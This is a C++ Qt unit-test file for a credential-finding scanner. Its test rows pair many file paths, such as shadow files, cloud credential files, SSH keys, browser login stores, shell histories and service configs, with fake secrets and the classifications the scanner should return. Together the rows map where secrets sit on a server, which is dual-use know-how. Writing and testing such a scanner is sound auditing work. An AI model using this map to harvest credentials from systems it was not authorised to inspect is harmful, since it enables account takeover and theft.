#include "credentials/find.hpp"
#include "credentials/stores.hpp"

#include <QElapsedTimer>

#include "content/file_type.hpp"
#include "plugin/secret_text.hpp"
#include "plugins/credentials/marked_secrets.hpp"
#include "support/case_fixture.hpp"
#include "support/test_main.hpp"


using namespace deadbox;
using namespace deadbox::plugins;

namespace {

std::string kinds_of(const std::string& path, const std::string& text) {
    std::string all;
    for (const auto& one : credentials::find_credentials(path, content::detect_type(base::as_bytes(text), text.size()), text)) all += (all.empty() ? "" : " ") + one.kind + ":" + one.protection;
    return all;
}

const std::string k_body = "MIIEpAIBAAKCAQEA7bq1Xk2mZs0fYtW8rJ4vNcQe5hGd3LpU6oTiRzA9xSbVwCyK\nMIIEpAIBAAKCAQEA7bq1Xk2mZs0fYtW8rJ4vNcQe5hGd3LpU6oTiRzA9xSbVwCyK\n";
std::string pem(const std::string& label, const std::string& headers = {}) { return "-----BEGIN " + label + "-----\n" + headers + k_body + "-----END " + label + "-----\n"; }
const std::string k_open_ssh = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQ\n-----END OPENSSH PRIVATE KEY-----\n";
const std::string k_locked_ssh = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAGAAAABAxyzxyzxyzxyzxyz\n-----END OPENSSH PRIVATE KEY-----\n";

}  // namespace

class CredentialsTest : public QObject {
    Q_OBJECT
private slots:
    void finds_data() {
        QTest::addColumn<QByteArray>("path");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("kinds");
        const auto row = [](const char* name, const char* path, const std::string& text, const char* kinds) { QTest::newRow(name) << QByteArray(path) << QByteArray::fromStdString(text) << QByteArray(kinds); };
        row("wp-config", "/srv/shop/wp-config.php", "<?php\ndefine('DB_USER', 'shop');\ndefine('DB_PASSWORD', 'Zang3n&Co');\n", "database_password:open");
        row("first signs in PHP", "/srv/shop/wp-config.php", "<?php\ndefine('DB_PASSWORD', '&Kx9!mQ2~pR7');\ndefine('FTP_PASS', '/Kx9!mQ2~pR7');\ndefine('X_PASSWORD', 'ab->c{$9Kx');\n$y_password = \"~Kx9mQ2pR7\";\n$z_password = '#Kx9mQ2';\n",
            "database_password:open password:open password:open password:open password:open");
        row("references in PHP", "/srv/shop/wp-config.php", "<?php\ndefine('DB_PASSWORD', getenv('X'));\n$a_password = \"{$row->password}\";\n$b_password = \"x{$y}z9\";\n$c_password = '/run/secrets/db_password';\n$d_password = '~/.secret/db9';\n$e_password = \"$x->y9\";\n$f_password = DB_PASS;\n$g_password = '<placeholder>';\n$h_password = '/etc/ssl/Private9';\n", "");
        row("first signs in env", "/srv/app/.env", "DB_PASSWORD=&Kx9!mQ2~pR7\nA_PASSWORD='/Kx9!mQ2~pR7'\nB_PASSWORD=\"ab->c{$9Kx\"\nC_PASSWORD=/run/secrets/db\nD_PASSWORD=${X}\nE_PASSWORD=%env(X)%\nF_PASSWORD={{ x }}\nG_PASSWORD=ENV['X']\n", "database_password:open password:open password:open");
        row("first signs in YAML", "/srv/app/config/app.yml", "a:\n  password: \"&Kx9!mQ2\"\nb:\n  password: '/Kx9!mQ2~pR7'\nc:\n  password: &anchor\nd:\n  password: '%env(DB_PASSWORD)%'\n", "password:open password:open");
        row("first signs in a program", "/srv/app/lib.php", "<?php\n$db_password = '&Kx9!mQ2~pR7';\n$a_pass = '/Kx9!mQ2~pR7';\n$b_password = '&nbsp;Passwort';\n$c_password = '/account/password';\n$d_password = '#password';\n$e_password = \"{$x->Y9}!\";\n", "database_password:open password:open");
        row("a slash before base64", "/root/.aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPL2\naws_secret_access_key = /bPxRfiCYzKEYwJalrXUtnFEMIK7MDENGabcdef9\n", "cloud_key:open cloud_key:open");
        row("a slash before 64 bytes", "/srv/app/.env", "AZURE_STORAGE_KEY=/fZq7bPxRfiCYzKEYwJalrXUtnFEMIK7MDENGabcdef9aZq7bPxRfiCYzKEYwJalrXUtnFEMIK7MDENGabcdeA==\nAZURE_KEY_FILE=/etc/azure/key\nAZURE_SECRET=/etc/azure/a/secret/of/the/machine/one/two\n", "cloud_key:open");
        row("hash within a history", "/root/.bash_history", "bob:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rKx9mQ2pR7\nmysql -pGeheim77 a\n", "web_password:hashed database_password:open");
        row("wp-config sample", "/srv/shop/wp-config-sample.php", "<?php\ndefine('DB_PASSWORD', 'password_here');\n", "");
        row("wp-config not set up", "/srv/shop/wp-config.php", "<?php\ndefine('DB_PASSWORD', 'password_here');\ndefine('DB_PASSWORD', getenv('DB'));\n", "");
        row("array in PHP", "/srv/app/config/database.php", "<?php\nreturn [\n 'username' => 'app',\n 'password' => 'g7Hk2mQ9',\n];\n", "database_password:open");
        row("translation", "/srv/app/lang/de/auth.php", "<?php\nreturn [\n 'password' => 'Passwort stimmt nicht',\n];\n", "");
        row("validation", "/srv/app/Http/Request.php", "<?php\n$rules = ['password' => 'required|min:8'];\n", "");
        row("env", "/srv/app/.env", "APP_KEY=base64:Q2hhbmdlTWVOb3QhQ2hhbmdlTWVOb3Q=\nDB_PASSWORD=tisch-Bein4\nMAIL_PASSWORD=null\nAPI_TOKEN=${TOKEN}\n", "application_secret:open database_password:open");
        row("env example", "/srv/app/.env.example", "DB_PASSWORD=tisch-Bein4\n", "");
        row("my.cnf", "/root/.my.cnf", "[client]\nuser=root\npassword=\"Ein Satz\"\n", "database_password:open");
        row("env with odd values", "/srv/app/.env", "A_PASSWORD=\"quoted space pw\"\nB_PASSWORD='single-pw3'\nC_PASSWORD=$dollarpw4\nD_PASSWORD=%perc-pw6\nE_PASSWORD=secret\nF_PASSWORD=$SMALL\nG_PASSWORD=${X}\n",
            "password:open password:open password:open password:open password:open");
        row("my.cnf word", "/root/.my.cnf", "[client]\nuser=root\npassword = Amboss7\n#password = alt\n", "database_password:open");
        row("yaml", "/etc/app/settings.yml", "db:\n  host: localhost\n  password: Amboss7\n  password_file: /run/x\n", "password:open");
        row("nsswitch", "/etc/nsswitch.conf", "passwd:         files systemd\nshadow: files\n", "");
        row("pgpass", "/home/a/.pgpass", "db:5432:stock:a:geheim9\n# comment\n", "database_password:open");
        row("netrc", "/root/.netrc", "machine ftp.example.org login a password Kette5\n", "password:open");
        row("git", "/root/.git-credentials", "https://a:Kette55@git.example.org\n", "password:open");
        row("htpasswd", "/srv/x/.users", "a:$apr1$Zd8Wq3Lk$uJ5nM2pRv7TxYb1CfGhK90\nb:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g=\n", "web_password:hashed web_password:hashed");
        row("copy of shadow", "/root/old/shadow.txt", "a:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k:20000:0:99999:7:::\nb:*:20000:0:99999:7:::\n", "account_password:hashed");
        row("open key", "/etc/ssl/private/x.key", pem("PRIVATE KEY"), "private_key:open");
        row("old encrypted key", "/etc/ssl/private/x.key", pem("RSA PRIVATE KEY", "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0011\n\n"), "private_key:encrypted");
        row("encrypted key", "/etc/ssl/private/x.key", pem("ENCRYPTED PRIVATE KEY"), "private_key:encrypted");
        row("certificate", "/etc/ssl/x.pem", pem("CERTIFICATE"), "");
        row("key in code", "/root/x.py", "if text.startswith('-----BEGIN RSA PRIVATE KEY-----'):\n    return True\n", "");
        row("open ssh key", "/home/a/.ssh/id_ed25519", k_open_ssh, "ssh_key:open");
        row("locked ssh key", "/home/a/.ssh/id_ed25519", k_locked_ssh, "ssh_key:encrypted");
        row("host key", "/etc/ssh/ssh_host_ed25519_key", k_open_ssh, "ssh_host_key:open");
        row("history by form", "/root/.bash_history", "curl -sku a:Kette55 https://h\nzip -P Kette5 a.zip b\nmkdir -p /x\n", "password:open password:open");
        row("history", "/root/.bash_history", "ls -p /tmp\nmysql -u root -pGeheim77 shop\nPGPASSWORD=Amboss77 psql\nssh -p 2222 host\n", "database_password:open database_password:open");
        row("docker", "/root/.docker/config.json", "{\n \"auths\": {\n  \"r.example.org\": {\n   \"auth\": \"YW5uYTpnZWhlaW05OTk5\"\n  }\n }\n}\n", "registry_login:open");
        row("kubeconfig", "/root/.kube/config", "users:\n- name: a\n  user:\n    client-key-data: LS0tLS1CRUdJTi5NN2N4\n    token: abcDEF123456ghi\n", "application_secret:open token:open");
        row("aws", "/root/.aws/credentials", "[default]\naws_access_key_id = AKIAQ7XYWEISS1954AB1\naws_secret_access_key = wJd3moK7MDENG+bPxRfiCYXYKEY1954abcdefgh\n", "cloud_key:open cloud_key:open");
        row("docker on one line", "/root/.docker/config.json", "{\"auths\":{\"r.example.org\":{\"auth\":\"dXNlcjpkb2NrZXJwdzk=\"}}}", "registry_login:open");
        row("npmrc", "/root/.npmrc", "//registry.npmjs.org/:_authToken=abcDEF0123456789\n", "token:open");
        row("pypirc", "/root/.pypirc", "[pypi]\nusername = a\npassword = Kette55\n", "password:open");
        row("gcp", "/root/gcp.json", "{\"type\":\"service_account\",\"private_key\":\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----\\n\"}", "private_key:open");
        row("azure", "/root/.azure/credentials.json", "{\"appId\":\"a\",\"clientSecret\":\"AzSec22abcdef\"}", "cloud_key:open");
        row("postfix", "/etc/postfix/sasl_passwd", "# relay\n[smtp.example.org]:587\tuser:saslpw11\n", "password:open");
        row("postfix map", "/etc/postfix/mysql-users.cf", "user = a\npassword = PfPw14\nhosts = x\n", "password:open");
        row("exim", "/etc/exim4/passwd.client", "smtp.example.org:user:eximpw12\n", "password:open");
        row("ppp", "/etc/ppp/chap-secrets", "# client server secret\nu * \"chap pw\" *\nv\t*\tchap2\t*\n", "password:open password:open");
        row("openvpn", "/etc/openvpn/client/auth.txt", "vpnuser\nvpnpw20\n", "password:open");
        row("openvpn script", "/etc/openvpn/up", "echo up\nexit 0\n", "");
        row("fstab", "/etc/fstab", "UUID=0a1b / ext4 defaults 0 1\n//nas/x /mnt cifs username=u,password=cifspw21 0 0\n", "password:open");
        row("cifs", "/etc/nas", "username=u\npassword=smbpw22\ndomain=D\n", "password:open");
        row("unit", "/etc/systemd/system/a.service", "[Service]\nEnvironment=\"DB_PASSWORD=unitpw25\"\nExecStart=/usr/bin/curl -u a:Kette55 https://h\n", "password:open password:open");
        row("cron", "/etc/cron.d/b", "# mysqldump -palt\n0 1 * * * root mysqldump -uroot -pcronpw18 shop > /b.sql\n0 2 * * * root mkdir -p /srv/b\n", "database_password:open");
        row("crontab", "/var/spool/cron/crontabs/root", "0 1 * * * curl -u a:Kette55 https://h\n", "password:open");
        row("Drupal", "/srv/x/sites/default/settings.php", "<?php\n$settings['hash_salt'] = 'salt17abcdefgh';\n", "application_secret:open");
        row("Magento", "/srv/x/app/etc/env.php", "<?php\nreturn [\n 'crypt' => [\n  'key' => 'abcdef0123456789'\n ],\n 'db' => ['host' => 'l', 'username' => 'u', 'password' => 'MagePw7']];\n", "application_secret:open password:open");
        row("Django", "/srv/x/settings.py", "SECRET_KEY = 'django-insecure-8abc'\nDATABASES = {'default': {'USER': 'u', 'PASSWORD': 'DjPw9'}}\nX_TOKEN = os.environ['T']\n", "application_secret:open password:open");
        row("Rails", "/srv/x/config/secrets.yml", "production:\n  secret_key_base: 10abcdef10abcdef\n", "application_secret:open");
        row("Spring", "/srv/x/application.properties", "spring.datasource.username=u\nspring.datasource.password=SprPw12\n", "database_password:open");
        row("Tomcat", "/etc/tomcat9/tomcat-users.xml", "<tomcat-users>\n<!-- <user username=\"x\" password=\"old1\"/> -->\n<user username=\"admin\" password=\"TomPw5\" roles=\"x\"/>\n</tomcat-users>\n", "password:open");
        row("Maven", "/root/.m2/settings.xml", "<settings><servers><server><username>a</username><password>MvnPw6</password></server></servers></settings>", "password:open");
        row("rclone", "/root/.config/rclone/rclone.conf", "[r]\ntype = sftp\npass = obscured23abcdef\n", "password:open");
        row("redis", "/etc/redis/redis.conf", "# requirepass foobared\nrequirepass RedisPw2\n", "password:open");
        row("slapd", "/etc/ldap/slapd.conf", "rootdn cn=a\nrootpw SlapdPw3\n", "password:open");
        row("ipsec", "/etc/ipsec.secrets", ": RSA key.pem\nbob : EAP \"IpsPw18\"\n", "password:open");
        row("wpa", "/etc/wpa_supplicant/wpa_supplicant.conf", "network={\n psk=\"WpaPw16a\"\n}\n", "password:open");
        row("netrc on lines", "/root/.netrc", "machine x\n  login a\n  password\tKette5\n", "password:open");
        row("htdigest", "/etc/apache2/.htdigest", "anna:intern:0123456789abcdef0123456789abcdef\n", "web_password:hashed");
        row("list of digests", "/srv/x/files.txt", "a:b:0123456789abcdef0123456789abcdef\n", "");
        row("gshadow", "/etc/gshadow", "root:*::\nsudo:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k:root:anna\n", "group_password:hashed");
        row("backup of shadow", "/etc/shadow-", "a:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k:20000:0:99999:7:::\n", "account_password:hashed");
        row("smbpasswd", "/etc/samba/smbpasswd", "anna:1000:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX:BD1D6854575622F856469602D1BA9F20:[U          ]:LCT-65E5B9C4:\n", "account_password:hashed");
        row("dovecot plain", "/etc/dovecot/users", "a@b:{PLAIN}Geheim77:::::\nc@d:{SHA512-CRYPT}$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8z:::::\n", "password:open account_password:hashed");
        row("keytab as text", "/etc/krb5.keytab.txt", "x\n", "");
        row("haproxy", "/etc/haproxy/haproxy.cfg", "listen s\n  stats auth admin:Geheim77\nuserlist u\n  user a insecure-password Geheim78\n  user b password $6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4r\n", "password:open password:open password:hashed");
        row("gitlab.rb", "/etc/gitlab/gitlab.rb", "# gitlab_rails['x_password'] = \"alt\"\ngitlab_rails['db_password'] = \"Geheim77\"\n", "database_password:open");
        row("gitlab secrets", "/etc/gitlab/gitlab-secrets.json", "{\"gitlab_rails\": {\"db_key_base\": \"0123456789abcdef0123\", \"otp_key_base\": \"0123456789abcdef0124\"}}", "application_secret:open application_secret:open");
        row("Jenkins", "/var/lib/jenkins/credentials.xml", "<x>\n <password>{AQAAABAAAAAQwg2VZGmY4WOe3bD53q23g9I1Jb5o4TLnJXXJkH6Ow=}</password>\n</x>\n", "password:open");
        row("Jenkins' key", "/var/lib/jenkins/secrets/master.key", "0123456789abcdef0123456789abcdef\n", "application_secret:open");
        row("slapd", "/etc/ldap/slapd.d/cn=config/olcDatabase={1}mdb.ldif", "dn: olcDatabase={1}mdb\nolcRootPW:: e1NTSEF9YWJjZGVmYWJjZGVmYWJjZGVmYWJjZGVm\n", "database_password:hashed");
        row("k3s", "/var/lib/rancher/k3s/server/token", "K10496a2c8773e130f7eb19731662b5e803b61ba4168160adb59261ff2d3c425c8d::server:99d19bdd0b6cc60d5d32cbe54014c2b5\n", "token:open");
        row("bind", "/etc/bind/rndc.key", "key \"rndc-key\" {\n\talgorithm hmac-sha256;\n\tsecret \"j2KKV9aoIWwHBWdA98DUjZsTfw2QPaTTkp4FSmle+ko=\";\n};\n", "application_secret:open");
        row("ACME", "/etc/letsencrypt/accounts/acme/x/private_key.json", "{\"n\": \"bfca\", \"e\": \"AQAB\", \"d\": \"c4fd32\", \"kty\": \"RSA\"}", "private_key:open");
        row("public JWK", "/srv/jwks.json", "{\"keys\": [{\"n\": \"bfca\", \"e\": \"AQAB\", \"kty\": \"RSA\"}]}", "");
        row("OpenVPN's shared key", "/etc/openvpn/ta.key", "-----BEGIN OpenVPN Static key V1-----\n0123456789abcdef0123456789abcdef\n0123456789abcdef0123456789abcdef\n-----END OpenVPN Static key V1-----\n", "shared_key:open");
        row("grub", "/etc/grub.d/40_custom", "set superusers=root\npassword_pbkdf2 root grub.pbkdf2.sha512.10000.398003680E7E3B35183EF8333C4774EC50CD1C1BAC7ADAC1A4B7D0B352AD6074.00\n", "account_password:hashed");
        row("cloud-init", "/var/lib/cloud/instance/user-data.txt", "#cloud-config\nchpasswd:\n  expire: false\n  list: |\n    anna:Geheim77\n    bob:RANDOM\nruncmd:\n  - a:b\n", "account_password:open");
        row("snmpd", "/etc/snmp/snmpd.conf", "rocommunity Geheim77 default\nrocommunity public\ncreateUser u SHA Geheim78 AES Geheim79\n", "password:open password:open password:open");
        row("Redis' users", "/etc/redis/users.acl", "user default off\nuser w on >Geheim77 ~* +@all\n", "database_password:open");
        row("supervisor", "/etc/supervisor/conf.d/a.conf", "[program:a]\nenvironment=SECRET_KEY=\"Geheim771\",DB_PASS=\"Geheim772\"\n", "application_secret:open password:open");
        row("apache", "/etc/apache2/sites-enabled/s.conf", "SetEnv DB_PASS Geheim77\nSetEnv APP_MODE live\nRequestHeader set X-Api-Key \"Geheim78\"\n", "password:open token:open");
        row("nginx headers", "/etc/nginx/sites-enabled/x", "proxy_set_header X-Api-Key \"Geheim78\";\nproxy_set_header Authorization $http_authorization;\nproxy_set_header Host $host;\n", "token:open");
        row("fetchmail", "/root/.fetchmailrc", "poll m protocol imap username \"u\" password \"Geheim77\"\n", "password:open");
        row("appsettings", "/srv/x/appsettings.json", "{\"ConnectionStrings\": {\"Default\": \"Server=db;User Id=sa;Password=Geheim77;\"}}", "database_password:open");
        row("plain PHP", "/srv/x/inc.php", "<?php\n$db_pass = \"Geheim77\";\n$mail->Password = 'Geheim78';\n$label['password'] = 'Passwort';\n$field = array('pass' => 'user_pass');\n// $old_pass = 'Geheim79';\n", "database_password:open password:open");
        row("logins in PHP", "/srv/x/db.php5.php", "<?php\n$c = mysqli_connect('localhost', 'root', 'geheim', 'shop');\n$p = new PDO('mysql:host=localhost;dbname=x', 'u', 'geheim');\n", "database_password:open database_password:open");
        row("node", "/srv/x/app.js", "const pool = mysql.createConnection({host:'x',user:'u',password:'Geheim77'});\napp.use(session({secret:'Geheim789'}));\nconst t = 'password';\n", "database_password:open application_secret:open");
        row("library", "/srv/x/vendor/y/Db.php", "<?php\n$db_pass = \"Geheim77\";\n", "");
        row("phpMyAdmin", "/srv/pma/config.inc.php", "<?php\n$cfg['Servers'][$i]['controlpass'] = 'Geheim77';\n", "password:open");
        row("Plesk", "/etc/psa/.psa.shadow", "Geheim77\n", "password:open");
        row("mysql history", "/root/.mysql_history", "_HiStOrY_V2_\nCREATE\\040USER\\040'x'\\040IDENTIFIED\\040BY\\040'Geheim77';\n", "database_password:open");
        row("fish history", "/root/.local/share/fish/fish_history", "- cmd: mysql -u root -pGeheim77 shop\n  when: 1\n", "database_password:open");
        row("FileZilla", "/root/.config/filezilla/sitemanager.xml", "<Server>\n<User>u</User>\n<Pass encoding=\"base64\">Z2VoZWltNzc=</Pass>\n</Server>\n", "password:open");
        row("Firefox", "/root/.mozilla/firefox/x/logins.json", "{\"logins\":[{\"encryptedUsername\":\"MDIE\",\"encryptedPassword\":\"MDoEEPgAAAAAAAAAAAAAAAAAAAEwFAYIKoZI\"}]}", "password:open");
        row("one-time passwords", "/home/a/.google_authenticator", "JBSWY3DPEHPK3PXPJBSWY3DPEH\n\" TOTP_AUTH\n82736451\n", "totp_secret:open");
        row("dockercfg", "/root/.dockercfg", "{\"https://index.docker.io/v1/\":{\"auth\":\"dXNlcjpkb2NrZXJwdw==\"}}", "registry_login:open");
        row("a file that is one", "/etc/borg/repo_passphrase", "Geheim77\n", "password:open");
        row("WireGuard with a slash", "/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = /uGa1WyOoHjZnBvpEst8fJvOkvBKYk5Bffbp40HIT2w=\n[Peer]\nPublicKey = 47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=\n", "application_secret:open");
        row("private key's path", "/etc/x.conf", "private_key = /etc/ssl/private/x.key\n", "");
        row("sssd", "/etc/sssd/sssd.conf", "[domain/x]\nldap_default_authtok_type = password\nldap_default_authtok = SssdPw1\n", "password:open");
        row("two in a line", "/root/.config/gcloud/application_default_credentials.json", "{\"client_secret\":\"GOCSPX-abcdefghij\",\"refresh_token\":\"1//0abcdefgh\"}", "cloud_key:open cloud_key:open");
        row("a client's secrets under any name", "/root/gc.json", "{\"client_id\":\"x\",\"client_secret\":\"GOCSPX-abcdefghij\",\"refresh_token\":\"1//0abcdefgh\"}", "application_secret:open token:open");
        row("texts in JSON", "/srv/x/forms.json", "{\"password\":\"Passwort\",\"token\":\"your token\",\"secret\":\"geheim\",\"client_secret\":\"Client Secret\"}", "");
        row("settings in a line", "/etc/app/two.conf", "user = a; password = Geheim77; api_token = abcDEF123456\n", "password:open token:open");
        row("a map in a line", "/opt/app/db.yml", "db: {user: shop, password: Geheim77, token: abcDEF123456}\n", "password:open token:open");
        row("options in a setting", "/etc/app/args", "ARGS=\"--user a --password Geheim77 --api-token abcDEF123456\"\n", "password:open token:open");
        row("dovecot's connection", "/etc/dovecot/dovecot-sql.conf.ext", "connect = host=localhost dbname=mail user=mail password=DovPw77\n", "database_password:open");
        row("dovecot's LDAP", "/etc/dovecot/dovecot-ldap.conf.ext", "dn = cn=x\ndnpass = DovLdap7\n", "password:open");
        row("a map of logins under any name", "/etc/postfix/relay_maps", "[smtp.example.org]:587 user@example.org:Relay77pw\n", "password:open");
        row("transports", "/etc/postfix/transport", "example.org smtp:[mx.example.org]:25\n[x.y]:25 smtp:[z]\n", "");
        row("Borg", "/root/.config/borg/keys/x", "BORG_KEY 0123456789abcdef\nhqlhbGdvcml0aG2mc2hhMjU2\n", "shared_key:");
        row("Borg's repository", "/srv/borg/config", "[repository]\nversion = 1\nkey = hqlhbGdvcml0aG2mc2hhMjU2pGRhdGHaAN4u2qHO0123456789\n", "shared_key:");
        row("restic's repository", "/srv/restic/keys/0123abcd", "{\"hostname\":\"web1\",\"kdf\":\"scrypt\",\"N\":32768,\"salt\":\"abcd\",\"data\":\"efgh\"}", "shared_key:encrypted");
        row("a file that ends so", "/root/.restic.pass", "Geheim77x\n", "password:open");
        row("Ansible", "/root/vault.yml", "$ANSIBLE_VAULT;1.1;AES256\n36633030613238353133653934313763\n", "key_store:encrypted");
        row("Ansible inside", "/root/all.yml", "a: 1\ndb_password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  3663303061\n", "key_store:encrypted");
        row("Ansible named", "/root/notes.txt", "files begin with $ANSIBLE_VAULT;1.1;AES256\n", "");
        row("age", "/root/age.txt", "# created: 2024\nAGE-SECRET-KEY-1QQPQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ\n", "private_key:open");
        row("minisign", "/root/minisign.key", "untrusted comment: minisign encrypted secret key\nRWRTY0Iyabc\n", "private_key:encrypted");
        row("DNSSEC", "/etc/bind/Kx.+008+1.private", "Private-key-format: v1.3\nAlgorithm: 8 (RSASHA256)\nModulus: abc==\n", "private_key:open");
        row("FreeRADIUS", "/etc/freeradius/3.0/users", "bob Cleartext-Password := \"hello77\"\n", "password:open");
        row("sendmail", "/etc/mail/authinfo", "AuthInfo:smtp.x \"U:root\" \"P:SendPw77\"\n", "password:open");
        row("proftpd", "/etc/proftpd/sql.conf", "SQLConnectInfo db@localhost proftp ProPw77\n", "database_password:open");
        row("rabbitmq", "/etc/rabbitmq/rabbitmq.config", "[{rabbit,[{default_user,<<\"a\">>},{default_pass,<<\"RabPw77\">>}]}].\n", "password:open");
        row("rsync", "/etc/rsyncd.secrets", "backup:RsyncPw77\n", "password:open");
        row("Subversion", "/root/.subversion/auth/svn.simple/01", "K 8\npassword\nV 7\nSvnPw77\nK 8\nusername\nV 1\na\nEND\n", "password:open");
        row("Ceph", "/etc/ceph/ceph.client.admin.keyring", "[client.admin]\n\tkey = AQBSdFhcRmFzABAAz1234567890abcdefghij==\n", "application_secret:open");
        row("Zabbix", "/etc/zabbix/agent.psk", "1f87b595725ac58dd977beef14b97461a7c1045b9a1c963065002c5473194952\n", "password:open");
        row("Tomcat's database", "/opt/tomcat/conf/context.xml", "<Resource name=\"jdbc\" username=\"shop\" password=\"TomPw77\" url=\"jdbc:mysql://db:3306/shop\"/>\n", "database_password:open");
        row("Jenkins' user", "/var/lib/jenkins/users/a/config.xml", "<user><passwordHash>#jbcrypt:$2a$10$abcdefghijklmnopqrstuuABCDEFGHIJKLMNOPQRSTUVWXYZ012345</passwordHash></user>\n", "password:hashed");
        row("a copy of a setting", "/etc/app/app.conf.bak", "password = Geheim77\n", "password:open");
        row("htpasswd of one", "/srv/x/.htpasswd", "a:$apr1$Zd8Wq3Lk$uJ5nM2pRv7TxYb1CfGhK90\n", "web_password:hashed");
        row("a job of every minute", "/etc/cron.d/c", "* * * * * root curl -u a:Kette55 https://h\n", "password:open");
        row("macros of exim", "/etc/exim4/conf.d/main/03_tls", "MAIN_TLS_PRIVATEKEY = CONFDIR/exim.key\ntls_privatekey = MAIN_TLS_PRIVATEKEY\n", "");
        row("an example of a list", "/etc/mosquitto/pwfile.example", "roger:$6$clQ4Ocu312S0qWgl$Cv2wUxgEN73c6C6jlBkswqR4AkHsvDLWvtEXZZ8N\n", "");
        row("an address in a comment", "/etc/roundcube/defaults.inc.php", "<?php\n// Format: db_provider://user:password@host/database\n", "");
        row("an address of words", "/etc/app/db.conf", "uri = mongodb://USER:PASSWORD@192.0.2.2:PORT/DATABASE\n", "");
        row("what another value is put into", "/etc/raddb/clients.conf", "secret = \"%{sql: SELECT secret FROM nas}\"\n", "");
        row("a class of passwords", "/srv/x/LocalPasswords.php", "<?php\n$a = [ 'user_password' => \":B:{$row->user_id}:{$row->user_password}\" ];\n$b = ['bp_token' => '**unsaved**'];\n", "");
        row("a filter of logs", "/etc/fail2ban/filter.d/x.conf", "failregex = password incorrect\\.$\npassword = incorrect\\.$\n", "");
        row("patterns of logs", "/etc/logcheck/ignore.d.server/x", "password 'new-password'$\n", "");
        row("a pattern", "/etc/app/rules.conf", "password = Wrong.*1\n", "");
        row("an address told to anonymous FTP", "/srv/x/class.php", "<?php\n$this->_password = \"anon2@ftp.com\";\n", "");
        row("base64 within a key", "/etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQ\n2aEnUqU6K2yPsYcIbt4dAAAAB3Jvb3RAdm0BAgMEBQY=\n-----END OPENSSH PRIVATE KEY-----\n", "ssh_host_key:open");
        row("services", "/etc/services", "kpasswd\t464/tcp\n", "");
        row("openssl.cnf", "/etc/ssl/openssl.cnf", "private_key = $dir/private/cakey.pem# The private key\nsecret = pass:insta\n", "");
        row("nginx", "/etc/nginx/nginx.conf", "location / { proxy_pass http://127.0.0.1:8080; }\nproxy_pass http://b;\n", "");
        row("pam", "/etc/pam.d/common-password", "password\trequisite\tpam_deny.so\npassword include system-auth\n", "");
        row("prose", "/root/notes", "the password is on the wall\n", "");
        row("words of a key in a history", "/root/.bash_history", "grep -rl -- '-----BEGIN RSA' /etc\nmysqldump -uroot -pGeheim77 shop\n", "database_password:open");
        row("a key that does not end", "/root/.bash_history", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nmysqldump -uroot -pGeheim77 shop\n", "database_password:open");
        row("what stands for a secret in directives", "/etc/proftpd/sql.conf", "AuthInfo:smtp.x \"U:root\" \"P:<password>\"\nSQLConnectInfo db@localhost proftp ${PW}\nbob Cleartext-Password := \"%{x}\"\n", "");
        row("kinds of secrets in a history", "/root/.bash_history", "GITHUB_TOKEN=abcDEF123456 run\nexport AWS_SECRET_ACCESS_KEY=abcDEF123456\nx --api-key abcDEF123456\nexport A_PASSWORD=abcDEF123456\n", "token:open cloud_key:open application_secret:open password:open");
        row("a hash in a statement", "/root/.mysql_history", "_HiStOrY_V2_\nALTER\\040USER\\040'a'\\040IDENTIFIED\\040WITH\\040mysql_native_password\\040AS\\040'*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19';\n", "database_password:hashed");
        row("accounts", "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nold:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k:1001:1001:Old,pw=Geheim77:/home/old:/bin/sh\nbackup:x:34:34:backup:/var/backups:/usr/sbin/nologin\n", "account_password:hashed password:open");
        // What says that it is a secret: the last word of a name, what it lies below, what stands beside it.
        row("dbconfig-common", "/etc/dbconfig-common/x.conf", "# dbc_dbpass='alt77'\ndbc_dbuser='x'\ndbc_dbpass='Geheim77'\ndbc_dbadmin=''\ndbc_dbserver=''\n", "database_password:open");
        row("dbconfig-common, empty", "/etc/dbconfig-common/x.conf", "dbc_dbpass=''\n", "");
        row("a wireless network's", "/etc/network/interfaces", "iface wlan0 inet dhcp\n  wpa-ssid X\n  wpa-psk Geheim77\n", "password:open");
        row("a router's", "/etc/keepalived/keepalived.conf", "vrrp_instance V { authentication { auth_type PASS\n auth_pass Geheim77\n } }\n", "password:open");
        row("servers that are passed to", "/etc/nginx/conf.d/x.conf", "location / { fastcgi_pass php8:9000; proxy_pass http://b1:80; }\nuwsgi_pass app1:3031;\n", "");
        row("quoted as in Go's INI", "/etc/gitea/app.ini", "[database]\nUSER = gitea\nPASSWD = `Geheim77`\n", "password:open");
        row("a command's output", "/etc/default/x", "PASSWORD=`cat /etc/x1`\nTOKEN=`hostname`\n", "");
